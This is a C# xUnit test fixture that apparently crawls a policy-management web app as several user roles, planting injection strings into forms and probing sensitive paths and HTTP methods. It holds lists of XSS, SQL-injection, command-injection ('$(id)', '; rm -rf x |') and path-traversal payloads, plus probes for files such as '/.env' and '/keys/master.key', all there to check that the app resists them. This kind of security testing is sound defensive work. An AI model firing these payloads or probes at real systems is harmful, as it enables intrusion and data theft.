using System.Net;
using System.Text;
using AngleSharp.Html.Dom;
using AngleSharp.Html.Parser;
using CcsPolicy.Web.Shell.Logging;
using CcsPolicy.Web.Tests.Access.Posting;
using CcsPolicy.Web.Tests.NonInterference;
using Microsoft.AspNetCore.Components.Server;
using Microsoft.EntityFrameworkCore;
using Microsoft.EntityFrameworkCore.Diagnostics;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Options;
using Serilog;
using Xunit;

namespace CcsPolicy.Web.Tests.Surface;

/// <summary>What one request got.</summary>
internal sealed record Answer(Who Who, string Method, Uri Asked, int Status, IReadOnlyList<(string Name, string Value)> Headers, byte[] Body)
{
    private IHtmlDocument? page;

    public string? this[string name] => Headers.Where(header => header.Name.Equals(name, StringComparison.OrdinalIgnoreCase)).Select(header => header.Value).ToList() is { Count: > 0 } values ? string.Join(", ", values) : null;

    public bool IsHtml => this["Content-Type"]?.StartsWith("text/html", StringComparison.Ordinal) == true && Body.Length > 0;

    /// <summary>A file that is handed out to be kept is none.</summary>
    public bool IsPage => IsHtml && this["Content-Disposition"]?.StartsWith("attachment", StringComparison.Ordinal) != true;

    public string Text => Encoding.UTF8.GetString(Body);

    public IHtmlDocument Page => page ??= new HtmlParser().ParseDocument(Text);

    /// <summary>The address as it was typed.</summary>
    public string Typed => Asked.OriginalString[Asked.GetLeftPart(UriPartial.Authority).Length..];

    public override string ToString() => $"{Who} {Method} {Asked.PathAndQuery} {Status}";
}

/// <summary>A database that answers later, as one over a network does.</summary>
internal sealed class LateAnswers : Microsoft.EntityFrameworkCore.Diagnostics.DbCommandInterceptor
{
    public override async ValueTask<InterceptionResult<System.Data.Common.DbDataReader>> ReaderExecutingAsync(
        System.Data.Common.DbCommand command, CommandEventData eventData, InterceptionResult<System.Data.Common.DbDataReader> result, CancellationToken cancellationToken = default)
    {
        await Task.Yield();
        return result;
    }
}

/// <summary>
/// One walk over everything that the product answers, in Production over https: every address as several people, with texts in it that want to be more than text, and every
/// kind of refusal. The tests of the surface look at the same answers.
/// </summary>
public sealed class Crawl : IAsyncLifetime
{
    /// <summary>Texts of which none may ever become anything but text: one for each place that a page, a script, an address, a style, a format or a query could take it up in.</summary>
    public static readonly string[] Payloads =
    [
        "<script>alert(1)</script>", "</title><script>alert(2)</script>", "\"><script>alert(3)</script>", "'><script>alert(4)</script>", "<img src=x onerror=alert(5)>", "\" onmouseover=\"alert(6)", "' onfocus='alert(7)' autofocus='",
        "<svg onload=alert(8)>", "<svg><script>alert(9)</script></svg>", "<math><mtext><img src=x onerror=alert(10)></mtext></math>", "<iframe src=javascript:alert(11)></iframe>", "<object data=javascript:alert(12)>",
        "<embed src=javascript:alert(13)>", "<a href=javascript:alert(14)>a</a>", "<a href=\"data:text/html,<script>alert(15)</script>\">a</a>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "<link rel=stylesheet href=https://evil.example/a.css>", "<style>*{background:url(https://evil.example)}</style>", "<form action=https://evil.example><button>b</button></form>", "<input autofocus onfocus=alert(20)>",
        "<details open ontoggle=alert(21)>", "<video><source onerror=alert(22)></video>", "<body onload=alert(23)>", "<marquee onstart=alert(24)>", "<isindex action=javascript:alert(25)>", "<textarea></textarea><script>alert(26)</script>",
        "</textarea><script>alert(27)</script>", "</script><script>alert(28)</script>", "--><script>alert(29)</script><!--", "]]><script>alert(30)</script>", "<![CDATA[<script>alert(31)</script>]]>", "<!--[if IE]><script>alert(32)</script><![endif]-->",
        "<scr<script>ipt>alert(33)</scr</script>ipt>", "<ScRiPt>alert(34)</sCrIpT>", "<script\t>alert(35)</script>", "<script/src=//evil.example>", "<img/src=x/onerror=alert(37)>", "<x onclick=alert(38)>c</x>", "<p style=\"color:expression(alert(39))\">p</p>",
        "＜script＞alert(40)＜／script＞", "&lt;script&gt;alert(41)&lt;/script&gt;", "&#60;script&#62;alert(42)&#60;/script&#62;", "%3Cscript%3Ealert(43)%3C/script%3E", "%253Cscript%253Ealert(44)", "\\u003cscript\\u003ealert(45)", "\\x3cscript\\x3ealert(46)",
        "javascript:alert(47)", "java\tscript:alert(48)", "[a](javascript:alert(49))", "![a](x\"onerror=\"alert(50))", "[[alert(51)]]", "<% alert(52) %>", "@(1+1)", "@{ throw null; }", "{{7*7}}", "${7*7}", "#{7*7}", "{0}{1:X}{9999}", "%s%n%x",
        "'; DROP TABLE \"People\"; --", "' OR '1'='1", "\" OR 1=1 --", "1); SELECT pg_sleep(9); --", "' UNION SELECT NULL, NULL --", "a%' ESCAPE '", "$(id)", "`id`", "; rm -rf x |", "../../../etc/passwd", "(a+)+$", "[", "\u202Egnp.exe", "a\u0085b\u2028c",
    ];

    /// <summary>What tools, settings, sources and listings are called elsewhere.</summary>
    public static readonly string[] Tools =
    [
        "/.git/HEAD", "/.git/config", "/.gitignore", "/.svn/entries", "/.hg/store", "/.env", "/.well-known/none", "/.dockerignore", "/web.config", "/appsettings.json", "/appsettings.Development.json", "/appsettings.Production.json", "/CcsPolicy.Web.dll",
        "/CcsPolicy.Web.pdb", "/CcsPolicy.Web.deps.json", "/CcsPolicy.Web.runtimeconfig.json", "/CcsPolicy.Web.staticwebassets.endpoints.json", "/App_Data/ccspolicy.db", "/App_Data/", "/ccspolicy.db", "/keys/master.key", "/logs/", "/log",
        "/css/", "/js/", "/fonts/", "/fonts/gothic/", "/wwwroot/", "/_framework/", "/_content/", "/_framework/blazor.boot.json", "/_framework/debug", "/_vs/browserLink", "/_framework/aspnetcore-browser-refresh.js", "/swagger", "/swagger/index.html",
        "/swagger/v1/swagger.json", "/openapi/v1.json", "/api", "/api/docs", "/graphql", "/metrics", "/actuator", "/actuator/env", "/debug", "/debug/routes", "/trace", "/trace.axd", "/elmah.axd", "/hangfire", "/miniprofiler", "/diagnostics", "/status", "/server-status",
        "/phpinfo.php", "/admin", "/console", "/manage", "/dump", "/heapdump", "/env", "/config", "/backup", "/backup.zip", "/db.sqlite", "/robots.txt", "/sitemap.xml", "/crossdomain.xml", "/clientaccesspolicy.xml", "/test", "/demo", "/tests/", "/docs/", "/README.md", "/LICENSE",
        "/packages.lock.json", "/src/", "/bin/", "/obj/", "/%2e%2e/%2e%2e/etc/passwd", "/css/..%2f..%2fappsettings.json", "/css/%2e%2e/appsettings.json", "/css/base.css.map", "/css/base.css~", "/css/base.css.bak", "/js/site.js.map", "/js/site.ts", "/Program.cs", "/App.razor",
    ];

    private readonly Trouble trouble = new();
    private readonly string logs = Directory.CreateTempSubdirectory("ccspolicy-logs-").FullName;
    private readonly List<Answer> answers = [];
    private readonly HashSet<string> served = [];
    private readonly HashSet<string> typedInto = [];
    private World world = null!;
    private Places places = null!;

    /// <summary>The mail address of everybody.</summary>
    public const string Mail = "hidden.address@aoba.example";

    internal IReadOnlyList<Answer> Answers => answers;

    /// <summary>What is another in the store after all addresses have been asked for by GET.</summary>
    internal HashSet<string> ChangedByGets { get; private set; } = [];

    /// <summary>The lines that all of this left in the files of the log.</summary>
    internal IReadOnlyList<string> Log { get; private set; } = [];

    /// <summary>What of accounts no page has a use for: hashes of passwords, what sessions are checked by, sealed keys.</summary>
    internal async Task<IReadOnlyList<string>> SecretsAsync()
    {
        await using var db = await world.OpenAsync(Who.Ciso);
        var accounts = await db.Users.AsNoTracking().ToListAsync(Ct);
        var tokens = await db.UserTokens.AsNoTracking().Select(token => token.Value).ToListAsync(Ct);
        return [.. accounts.SelectMany(one => new[] { one.PasswordHash, one.SecurityStamp }).Concat(tokens).OfType<string>().Where(secret => secret.Length > 10).Distinct()];
    }

    /// <summary>Whether the browser is told the words of a fault that happens in a circuit.</summary>
    internal bool TellsFaultsOfCircuits => world.Portal.Services.GetRequiredService<IOptions<CircuitOptions>>().Value.DetailedErrors;

    /// <summary>Of everybody the name, number and account, and of everything the id.</summary>
    internal async Task<IReadOnlyList<string>> NamesAndIdsAsync()
    {
        await using var db = await world.OpenAsync(Who.Ciso);
        var people = await db.People.AsNoTracking().Select(person => new { person.Id, person.Name, person.StaffNumber }).ToListAsync(Ct);
        var accounts = await db.Users.AsNoTracking().Select(account => new { account.Id, account.UserName }).ToListAsync(Ct);
        var departments = await db.Departments.AsNoTracking().Select(department => department.Name).ToListAsync(Ct);
        var pool = new Pool();
        await pool.LearnAsync(world, Ct);
        return [.. people.SelectMany(one => new[] { one.Id.ToString(), one.Name, one.StaffNumber }), .. accounts.SelectMany(one => new[] { one.Id.ToString(), one.UserName! }), .. departments,
            .. new[] { "document", "edition", "amendment", "file", "comment", "grant", "receipt" }.SelectMany(kind => pool.Of(kind)).SelectMany(id => id.Split('/')).Where(id => id.Length > 20)];
    }

    /// <summary>Where texts were put by those who may: how many places took them.</summary>
    internal int Planted { get; private set; }

    public async ValueTask InitializeAsync()
    {
        var seed = await WorldSeed.GetAsync();
        var log = new LoggerConfiguration().WriteFiles(logs, 1).CreateLogger();
        world = World.Open(seed, services =>
        {
            services.AddSingleton<IInterceptor>(trouble);
            // SQLite answers at once; other databases let a page be rendered before they do.
            services.AddSingleton<IInterceptor>(new LateAnswers());
            services.AddSerilog(log);
        });
        world.Restart(60_000_000);
        places = await Places.OfAsync(world);
        await PlantAsync();
        var pool = seed.Pool.Copy();
        await pool.LearnAsync(world, Ct);
        var wandering = new Wandering(Channels.Of(world), pool);
        var before = Rows.Of(world);
        foreach (var who in new[] { Who.Anonymous, Who.Officer, Who.Ciso, Who.Administrator, Who.Auditor })
            await LookAsync(who, wandering);
        ChangedByGets = Rows.Of(world).ChangedSince(before);
        await RefusalsAsync();
        await FilesAsync();
        // What is not written yet is written when the log is closed.
        await log.DisposeAsync();
        Log = [.. Directory.GetFiles(logs).SelectMany(File.ReadLines)];
        Directory.Delete(logs, recursive: true);
    }

    public ValueTask DisposeAsync() => world.DisposeAsync();

    internal async Task<Answer> AskAsync(Who who, HttpClient client, HttpMethod method, string address, Action<HttpRequestMessage>? with = null)
    {
        using var request = new HttpRequestMessage(method, address);
        with?.Invoke(request);
        using var answer = await client.SendAsync(request, Ct);
        var headers = answer.Headers.Concat(answer.Content.Headers).SelectMany(header => header.Value.Select(value => (header.Key, value))).ToList();
        answers.Add(new Answer(who, method.Method, new Uri(client.BaseAddress!, address), (int)answer.StatusCode, headers, await answer.Content.ReadAsByteArrayAsync(Ct)));
        return answers[^1];
    }

    internal Task<HttpClient> BrowserAsync(Who who) => who == Who.Anonymous ? Task.FromResult(world.Portal.Anonymous()) : world.Portal.SignedInAsync(world.IdOf(who));

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private async Task LookAsync(Who who, Wandering wandering)
    {
        using var client = await BrowserAsync(who);
        var planted = places.Amendment("SP-02").ToString();
        foreach (var channel in Channels.Of(world).Where(channel => channel.Gets))
        {
            // What somebody has been served already is not asked for again, but for the first page, which is another for everybody.
            if (who != Who.Anonymous && served.Contains(channel.Pattern) && channel.Pattern != "/")
                continue;
            // Whoever writes sees several objects of a kind, the others one.
            foreach (var address in wandering.Addresses(channel.Pattern) is var all && who == Who.Officer ? all.TakeLast(3).Union(all.Where(one => one.Contains(planted, StringComparison.Ordinal))) : all.TakeLast(1))
                if ((await AskAsync(who, client, HttpMethod.Get, address)).Status == 200 && who != Who.Anonymous)
                    served.Add(channel.Pattern);
            if (channel.Queries.Length > 0 && served.Contains(channel.Pattern) && typedInto.Add(channel.Pattern))
                foreach (var typed in new[] { "%2541" + Payloads[60] + Payloads[2], "2147483648", "-1", new string('9', 2000) })
                    await AskAsync(who, client, HttpMethod.Get, wandering.Addresses(channel.Pattern)[^1] + "?" + string.Join('&', channel.Queries.Select(name => name + "=" + Uri.EscapeDataString(typed))));
        }
    }

    private async Task RefusalsAsync()
    {
        using var officer = await BrowserAsync(Who.Officer);
        using var nobody = world.Portal.Anonymous();
        foreach (var client in new[] { officer, nobody })
        {
            var who = client == officer ? Who.Officer : Who.Anonymous;
            foreach (var address in new[] { "/no-such-page", "/css/none.css", "/documents/none", "/css/base.css", "/js/site.js", "/js/drafting.js", "/js/passkey.js", "/favicon.svg", "/_framework/blazor.web.js", "/fonts/gothic/119-400.woff2", "/health/live", "/health/ready", "/_blazor" })
                await AskAsync(who, client, HttpMethod.Get, address);
            foreach (var method in new[] { "TRACE", "PUT", "DELETE", "PATCH", "OPTIONS", "PROPFIND", "CONNECT" })
                foreach (var address in new[] { "/", "/css/base.css", "/documents/none", "/_blazor" })
                    if (method != "CONNECT" && (address != "/_blazor" || method != "DELETE"))
                        await AskAsync(who, client, new HttpMethod(method), address);
            foreach (var address in new[] { "/account/password", "/acknowledgements", "/display/choose", "/_blazor/negotiate" })
                foreach (var origin in new[] { null, "https://evil.example", "https://localhost" })
                    await AskAsync(who, client, HttpMethod.Post, address, request =>
                    {
                        request.Content = new FormUrlEncodedContent([new("a", "b")]);
                        if (origin is not null)
                            request.Headers.Add("Origin", origin);
                    });
            foreach (var path in Tools)
                await AskAsync(who, client, HttpMethod.Get, path);
            await AskAsync(who, client, HttpMethod.Get, "/", request => request.Headers.Add("Origin", "https://evil.example"));
        }
        using var plain = world.Portal.CreateDefaultClient(new Uri("http://localhost"));
        await AskAsync(Who.Anonymous, plain, HttpMethod.Get, "/account/sign-in");
        trouble.Is = true;
        await AskAsync(Who.Officer, officer, HttpMethod.Get, "/catalogue");
        await AskAsync(Who.Officer, officer, HttpMethod.Get, "/find?q=a");
        trouble.Is = false;
    }

    /// <summary>Reports, journals and what is signed in with: posts that are answered by a file, a cookie or another page.</summary>
    private async Task FilesAsync()
    {
        foreach (var form in FormCases.All.Where(form => form.Name.StartsWith("/reports", StringComparison.Ordinal) || form.Name.StartsWith("/journal", StringComparison.Ordinal) || form.Name is "/display/choose" or "sign-in" or "/account/sign-out"))
        {
            using var client = await BrowserAsync(form.By);
            var page = (await AskAsync(form.By, client, HttpMethod.Get, form.Page(places))).Page;
            if (form.FindOn(page) is not { } found)
                throw new InvalidOperationException($"no form {form}");
            var fields = form.Fill(found, new Stage(world, places, await world.VisitorAsync(form.By)), page);
            await AskAsync(form.By, client, HttpMethod.Post, found.GetAttribute("action") is { Length: > 0 } action ? action : form.Page(places), request =>
            {
                request.Content = new FormUrlEncodedContent(fields);
                request.Headers.Add("Origin", "https://localhost");
            });
        }
    }

    private async Task PlantAsync()
    {
        var text = "情報点検基準\n\n" + string.Concat(Payloads.Select((payload, at) => $"第{at + 1}条　{payload.Replace('\u2028', ' ').Replace('\u0085', ' ')}\n"));
        string some(int from) => string.Concat(Payloads.Skip(from).Take(2));
        await PlantAsync("PersonPage person", ("Name", some(0)), ("Kana", some(2)));
        await using (var db = await world.OpenAsync(Who.Ciso))
            await db.People.ExecuteUpdateAsync(person => person.SetProperty(one => one.Mail, Mail), Ct);
        await PlantAsync("DepartmentsPage *", ("Name", some(4)));
        await PlantAsync("DepartmentsPage new-department", ("NewName", some(6)));
        await PlantAsync("SystemsPage new-system", ("NewName", some(14)));
        await PlantAsync("PostsPage new-post", ("Name", some(8)));
        await PlantAsync("RegisterPage register", ("Form.Title", some(10)));
        await PlantAsync("ParticularsPage particulars", ("Code", Payloads[7]));
        await PlantAsync("TextPage text", ("Words", text));
        await PlantAsync("POST /amendments/{id}/comments", ("Words", string.Join('\n', Payloads)));
        await PlantAsync("SubmitPage submit", ("Form.Reason", string.Join('\n', Payloads)[..1900]));
        await PlantAsync("AskPage ask", ("Words", string.Concat(Payloads)[..400]));
        await PlantAsync("GrantsPage give", ("Reason", some(12)));
    }

    private async Task PlantAsync(string name, params (string Name, string? Value)[] typed)
    {
        var form = FormCases.All.First(one => one.Form == name);
        var stage = new Stage(world, places, await world.VisitorAsync(form.By));
        var page = await stage.Visitor.GetAsync(form.Page(places)) ?? throw new InvalidOperationException($"no page of {form}: {stage.Visitor.Last} {string.Join('\n', world.Lines.Take())}");
        var found = form.FindOn(page) ?? throw new InvalidOperationException($"no form {form}");
        var fields = (form with { Typed = (on, at) => [.. form.Typed(on, at).Where(one => typed.All(other => other.Name != one.Name)), .. typed] }).Fill(found, stage, page);
        await stage.Visitor.PostAsync(found.GetAttribute("action") is { Length: > 0 } action ? action : form.Page(places), fields, null, found.GetAttribute("enctype") == "multipart/form-data");
        if (stage.Visitor.Last.Status is 302 or 303)
            Planted++;
        else
            TestContext.Current.TestOutputHelper?.WriteLine($"not planted: {form} {stage.Visitor.Last.Status}");
    }

    /// <summary>The store as it is while it is in trouble.</summary>
    private sealed class Trouble : DbCommandInterceptor
    {
        public bool Is { get; set; }

        public override ValueTask<InterceptionResult<System.Data.Common.DbDataReader>> ReaderExecutingAsync(
            System.Data.Common.DbCommand command, CommandEventData eventData, InterceptionResult<System.Data.Common.DbDataReader> result, CancellationToken cancellationToken = default) =>
            Is ? throw new InvalidOperationException("secret of the inside: " + command.CommandText) : base.ReaderExecutingAsync(command, eventData, result, cancellationToken);
    }
}
